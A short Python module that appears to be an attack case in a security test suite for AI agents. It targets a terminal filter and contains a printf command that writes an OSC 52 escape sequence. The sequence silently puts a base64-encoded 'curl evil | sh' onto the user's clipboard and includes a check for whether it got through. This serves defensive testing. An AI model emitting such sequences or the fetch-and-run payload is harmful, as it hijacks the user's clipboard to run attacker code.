"""writes the person's clipboard by an escape sequence"""

SHAPE = "OSC 52: what the person pastes next is the attacker's"
PROMISE = "P21"
WALLS = "terminal-filter"
TERMINAL = True
ACT = "printf '\\033]52;c;Y3VybCBldmlsIHwgc2g=\\a'"


def succeeded(host, done):
    return "\x1b]52;c;" in done.out
